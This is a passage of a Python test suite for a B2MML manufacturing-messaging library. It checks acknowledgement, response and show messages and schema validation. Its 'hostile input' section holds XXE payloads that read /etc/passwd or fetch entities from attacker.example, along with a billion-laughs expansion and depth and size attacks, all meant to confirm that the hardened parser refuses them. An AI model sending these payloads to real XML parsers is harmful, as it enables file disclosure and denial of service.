    assert (_at(answer, f"{original}/BODID"), _at(answer, f"{original}/CreationDateTime"),
            _at(answer, f"{original}/Sender/LogicalID")) == (["BOD-2025-0303-0001"], ["2025-03-03T07:15:00Z"],
                                                             ["SAP-ERP-PRD"])
    expression, = answer.getroot().iterfind(f".//{{{V7}}}ResponseExpression")
    assert (expression.get("actionCode"), expression.text) == (
        "Accepted", "/ProcessOperationsSchedule/DataArea/OperationsSchedule")
    assert _at(answer, "DataArea/Acknowledge/ResponseCriteria/ChangeStatus/Code") == ["Accepted"]
    assert (_at(answer, "DataArea/OperationsSchedule/ID"),
            _at(answer, "DataArea/OperationsSchedule/OperationsRequest/ID")) == (["SCH-2025-W10"],
                                                                               ["WO-100234", "WO-100235"])
    assert b2mml.acknowledge(message, now=NOW, bod_id="ACK-7").find(f".//{{{V7}}}BODID").text == "ACK-7"


def test_a_rejection_lists_every_problem_and_validates():
    message = b2mml.read_message(xml.parse(BROKEN_V0600).getroot())
    error = _refused(errors.ValidationFailed, b2mml.read_schedules, message)
    answer = b2mml.acknowledge(message, error=error, now=NOW, bod_id="ACK-1")
    b2mml.validate_v0700(answer, STANDARDS)
    status = "DataArea/Acknowledge/ResponseCriteria/ChangeStatus"
    assert (_at(answer, f"{status}/Code"), _at(answer, f"{status}/Description")) == (["Rejected"], [error.message])
    reasons = _at(answer, f"{status}/Reason")
    assert len(reasons) == 10 and "ProductionRequest[WO-1]/MaterialProducedRequirement/Quantity: 'ten': not a number" \
        in reasons
    # a plain document had no ApplicationArea: the answer has no original one and no receiver, and names it
    assert _at(answer, "DataArea/Acknowledge/OriginalApplicationArea/BODID") == []
    assert _at(answer, "ApplicationArea/Receiver/LogicalID") == []
    assert answer.find(f".//{{{V7}}}ResponseExpression").text == "/ProductionSchedule"
    assert _at(answer, "DataArea/OperationsSchedule/OperationsRequest/ID") == ["WO-1", "WO-2", ""]


def test_a_rejection_lists_at_most_a_hundred_reasons():
    message = _message(_sample("process_operations_schedule_v0700.xml"))
    answer = b2mml.acknowledge(message, accepted=False, reasons=[f"reason {n}" for n in range(150)], now=NOW)
    b2mml.validate_v0700(answer, STANDARDS)
    reasons = _at(answer, "DataArea/Acknowledge/ResponseCriteria/ChangeStatus/Reason")
    assert (len(reasons), reasons[0], reasons[-1]) == (101, "reason 0", "and 50 more")


@pytest.mark.parametrize("name", ["sync_equipment_v0700.xml", "process_material_lot_v0700.xml",
                                  "sync_material_definition_v0700.xml", "production_schedule_v0600_mtconnect.xml"])
def test_an_acknowledge_of_any_noun_validates(name):
    message = _message(_sample(name))
    answer = b2mml.acknowledge(message, now=NOW)
    b2mml.validate_v0700(answer, STANDARDS)
    assert etree.QName(answer.getroot()).localname == f"Acknowledge{message.noun}"


def test_a_respond_to_a_change_validates_accepted_or_modified():
    change = _v7("Change", ("<OperationsSchedule><ID>S-1</ID><OperationsRequest><ID>WO-1</ID>"
                            "<EndTime>2025-03-09T00:00:00Z</EndTime></OperationsRequest></OperationsSchedule>"))
    message = b2mml.read_message(xml.parse(change).getroot())
    accepted = b2mml.respond(message, now=NOW)
    b2mml.validate_v0700(accepted, STANDARDS)
    assert accepted.getroot().tag == f"{{{V7}}}RespondOperationsSchedule"
    assert _at(accepted, "DataArea/Respond/ResponseCriteria/ChangeStatus/Code") == ["Accepted"]
    assert _at(accepted, "DataArea/Respond/OriginalApplicationArea/BODID") == ["B-1"]
    # the MES moves the end: it answers with the schedule as it will be
    modified_noun = etree.fromstring(f'<OperationsSchedule xmlns="{V7}"><ID>S-1</ID><OperationsRequest><ID>WO-1</ID>'
                                     f'<EndTime>2025-03-10T00:00:00Z</EndTime></OperationsRequest>'
                                     f'</OperationsSchedule>')
    modified = b2mml.respond(message, action="Modified", nouns=[modified_noun], reasons=["capacity"], now=NOW)
    b2mml.validate_v0700(modified, STANDARDS)
    assert (_at(modified, "DataArea/Respond/ResponseCriteria/ChangeStatus/Code"),
            _at(modified, "DataArea/Respond/ResponseCriteria/ChangeStatus/Reason"),
            _at(modified, "DataArea/OperationsSchedule/OperationsRequest/EndTime")) == (
        ["Modified"], ["capacity"], ["2025-03-10T00:00:00Z"])
    assert modified_noun.getparent() is None   # the caller's element is copied, not moved
    with pytest.raises(ValueError):
        b2mml.respond(message, action="Maybe")


def test_a_show_answers_a_get_and_validates():
    get = b2mml.read_message(xml.parse(_v7("Get", SCHEDULE_V7)).getroot())
    document = xml.parse(_sample("process_operations_schedule_v0700.xml"))
    schedule = document.getroot().find(f".//{{{V7}}}OperationsSchedule")
    answer = b2mml.show(schedule, request=get, now=NOW)
    b2mml.validate_v0700(answer, STANDARDS)
    assert answer.getroot().tag == f"{{{V7}}}ShowOperationsSchedule"
    assert (_at(answer, "DataArea/Show/OriginalApplicationArea/BODID"),
            _at(answer, "ApplicationArea/Receiver/LogicalID"),
            _at(answer, "DataArea/OperationsSchedule/OperationsRequest/ID")) == (
        ["B-1"], ["ERP"], ["WO-100234", "WO-100235"])
    assert schedule.getparent() is not None   # copied, not taken from its document
    lot = etree.fromstring(f'<MaterialLot xmlns="{V7}"><ID>L</ID></MaterialLot>')
    b2mml.validate_v0700(b2mml.show([lot], now=NOW), STANDARDS)
    for wrong in ([], [schedule, lot], [etree.fromstring(f'<ProductionSchedule xmlns="{V6}"/>')],
                  [etree.fromstring(f'<OperationsRequest xmlns="{V7}"/>')]):
        with pytest.raises(ValueError):
            b2mml.show(wrong)


def test_no_answer_for_a_noun_v0700_has_no_verb_for():
    bare = b2mml.read_message(xml.parse(f'<OperationsRequest xmlns="{V7}"><ID>WO-1</ID></OperationsRequest>').getroot())
    with pytest.raises(ValueError, match="AcknowledgeOperationsRequest"):
        b2mml.acknowledge(bare)


# -- schemas -------------------------------------------------------------------------------------------------------

def test_schemas_names_every_root_element_of_each_v0700_xsd_and_no_other():
    declared = {}
    for path in set(b2mml.SCHEMAS.values()):
        root = etree.parse(str(STANDARDS / path)).getroot()   # the official schema: a trusted local file
        declared.update({e.get("name"): path for e in root.iterfind("{http://www.w3.org/2001/XMLSchema}element")})
    assert declared == b2mml.SCHEMAS
    assert b2mml.SCHEMAS["ProcessOperationsSchedule"] == "b2mml-v0700/B2MML-OperationsSchedule.xsd"
    assert b2mml.SCHEMAS["SyncMaterialDefinition"] == "b2mml-v0700/B2MML-Material.xsd"


def test_validation_refuses_what_the_schema_does_not_take():
    bad = _sample("process_operations_schedule_v0700.xml").replace(
        b"<Priority>2</Priority>", b"<Priority>high</Priority>")
    refused = _refused(errors.ValidationFailed, b2mml.read, bad, STANDARDS)
    assert "line 35" in refused.message and "Priority" in refused.message
    # without the schemas the reader takes it, and names the priority
    assert "OperationsRequest[WO-100234]/Priority" in _refused(
        errors.ValidationFailed, b2mml.read_schedules, b2mml.read(bad)).details
    out_of_order = _sample("sync_equipment_v0700.xml").replace(b"<ID>PLANT-1000</ID>\n      <Description>",
                                                              b"<Description>")
    assert _refused(errors.ValidationFailed, b2mml.read, out_of_order, STANDARDS).http_status == 400
    for element in (xml.parse(_sample("production_schedule_v0600.xml")),
                    xml.parse(f'<Unknown xmlns="{V7}"/>')):
        assert "no B2MML V0700 document" in _refused(errors.ValidationFailed, b2mml.validate_v0700, element,
                                                     STANDARDS).message


def test_a_wrapped_v0700_document_is_validated_on_its_own():
    wrapped = (b'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body>'
               + _sample("process_operations_schedule_v0700.xml").split(b"?>", 1)[1] + b"</e:Body></e:Envelope>")
    assert b2mml.read(wrapped, STANDARDS).message_id == "BOD-2025-0303-0001"


# -- hostile input -------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize("document, why", [
    (f'<?xml version="1.0"?><!DOCTYPE ProductionSchedule [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     f'<ProductionSchedule xmlns="{V6}"><ID>&xxe;</ID></ProductionSchedule>', "DOCTYPE"),
    (f'<?xml version="1.0"?><!DOCTYPE e:Envelope [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
     f'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body><OperationsSchedule xmlns="{V7}">'
     f'<ID>&xxe;</ID></OperationsSchedule></e:Body></e:Envelope>', "DOCTYPE"),
    (f'<?xml version="1.0"?><!DOCTYPE ProductionSchedule [<!ENTITY % remote SYSTEM "http://attacker.example/d">'
     f'%remote;]><ProductionSchedule xmlns="{V6}"/>', "DOCTYPE"),
    (f'<?xml version="1.0"?><!DOCTYPE ProductionSchedule [<!ENTITY lol0 "lol">{LAUGHS}]>'
     f'<ProductionSchedule xmlns="{V6}"><ID>&lol9;</ID></ProductionSchedule>', "entity"),
    ("<a>" * 300 + f'<OperationsSchedule xmlns="{V7}"/>' + "</a>" * 300, "depth"),
    (f'<OperationsSchedule xmlns="{V7}"><ID>S-1</OperationsSchedule>', "line 1"),
])
def test_hostile_or_broken_b2mml_is_refused_by_the_hardened_parser(document, why):
    refused = _refused(errors.ValidationFailed, b2mml.read, document.encode(), STANDARDS)
    assert refused.http_status == 400 and list(refused.details) == ["body"]
    assert why.lower() in (refused.message + str(refused.details)).lower()


def test_an_oversized_b2mml_document_is_refused_before_parsing():
    padding = b"<Description>" + b"x" * 1000 + b"</Description>"
    document = f'<OperationsSchedule xmlns="{V7}"><ID>S-1</ID>'.encode() + padding + b"</OperationsSchedule>"
    refused = _refused(errors.TooLarge, b2mml.read, document, max_bytes=1000)
    assert (refused.http_status, refused.details) == (413, {"body": ["at most 1000 bytes"]})
    huge = _refused(errors.TooLarge, b2mml.read, b"<a>" + b"x" * xml.MAX_BYTES + b"</a>")
    assert huge.http_status == 413
